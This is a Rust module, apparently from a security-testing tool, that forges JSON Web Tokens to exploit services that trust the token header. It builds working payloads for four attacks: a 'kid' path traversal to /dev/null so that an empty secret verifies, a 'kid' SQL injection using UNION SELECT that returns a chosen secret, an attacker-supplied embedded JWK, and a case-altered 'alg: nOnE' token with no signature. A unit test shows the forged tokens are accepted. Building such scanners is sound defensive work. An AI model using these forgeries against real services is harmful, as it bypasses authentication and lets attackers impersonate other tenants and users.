//! Tokens whose header says by which key they are to be believed: whoever believes the header before the signature takes
//! them for whatever they say (RFC 8725, 3.1 and 3.10).

use base64::engine::{Engine, general_purpose::URL_SAFE_NO_PAD};
use jsonwebtoken::Header;
use jsonwebtoken::jwk::Jwk;
use serde_json::{Map, Value, json};

use super::jwt::{Strangers, encoded, keyed};
use crate::target::credential::{Algorithm, Flaw};

/// From wherever keys are kept, up to the root and down to what is empty.
const EMPTY_FILE: &str = "../../../../../../../../../../../../dev/null";
/// What a statement is made to answer with where it looks a key up by `kid`.
const ANSWERED: &str = "partywall";

/// The claims of `token` under a header with `flaw`; none where it is no JWT, or the flaw is none of the header.
pub(super) fn misled(token: &str, flaw: Flaw, strangers: &Strangers) -> Option<String> {
    let mut parts = token.split('.');
    let mut part = || serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts.next()?).ok()?).ok();
    let (Value::Object(head), Value::Object(claims)) = (part()?, part()?) else { return None };
    by_secret(&claims, flaw).or_else(|| match flaw {
        Flaw::EmbeddedKey => {
            let algorithm = match head.get("alg").and_then(Value::as_str) {
                Some("HS256") => Algorithm::HS256,
                Some("RS256") => Algorithm::RS256,
                _ => Algorithm::ES256,
            };
            let (named, key) = keyed(algorithm, &strangers.key(algorithm).ok()?).ok()?;
            let header = Header { jwk: Jwk::from_encoding_key(&key, named).ok(), ..Header::new(named) };
            encoded(&header, &claims, &key).ok()
        }
        Flaw::NoneCased => {
            let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
            Some(format!("{}.{}.", part(&json!({ "alg": "nOnE", "typ": "JWT" })), part(&Value::Object(claims.clone()))))
        }
        _ => None,
    })
}

/// Signed by what its `kid` makes a careless service find.
fn by_secret(claims: &Map<String, Value>, flaw: Flaw) -> Option<String> {
    let (key_id, secret) = match flaw {
        Flaw::KeyIdPath => (EMPTY_FILE.to_string(), ""),
        Flaw::KeyIdSql => (format!("nobody' UNION SELECT '{ANSWERED}' -- "), ANSWERED),
        _ => return None,
    };
    let (named, key) = keyed(Algorithm::HS256, secret).ok()?;
    encoded(&Header { kid: Some(key_id), ..Header::new(named) }, claims, &key).ok()
}

#[cfg(test)]
mod tests {
    use jsonwebtoken::{DecodingKey, Validation, decode, decode_header};

    use super::*;

    #[test]
    fn whoever_believes_the_header_is_deceived() {
        let strangers = Strangers::default();
        for algorithm in [Algorithm::HS256, Algorithm::ES256] {
            let (named, key) = keyed(algorithm, &strangers.key(algorithm).expect("a key")).expect("a key");
            let claims = json!({ "tenant": "t", "exp": 4_000_000_000_u64 });
            let token = jsonwebtoken::encode(&Header::new(named), &claims, &key).expect("a token");
            let read = |token: &str, key: &DecodingKey, algorithm| {
                let told = decode::<Value>(token, key, &Validation::new(algorithm)).expect("believed");
                assert_eq!(told.claims, claims);
            };
            let sent = |flaw| misled(&token, flaw, &strangers).expect("a token");
            let hs256 = jsonwebtoken::Algorithm::HS256;
            read(&sent(Flaw::KeyIdPath), &DecodingKey::from_secret(b""), hs256);
            read(&sent(Flaw::KeyIdSql), &DecodingKey::from_secret(b"partywall"), hs256);
            let embedded = sent(Flaw::EmbeddedKey);
            let shown = decode_header(&embedded).expect("a header").jwk.expect("a key");
            read(&embedded, &DecodingKey::from_jwk(&shown).expect("a key"), named);
            assert!(sent(Flaw::NoneCased).ends_with('.'));
        }
        assert_eq!(misled("no.jwt", Flaw::KeyIdPath, &strangers), None);
    }
}
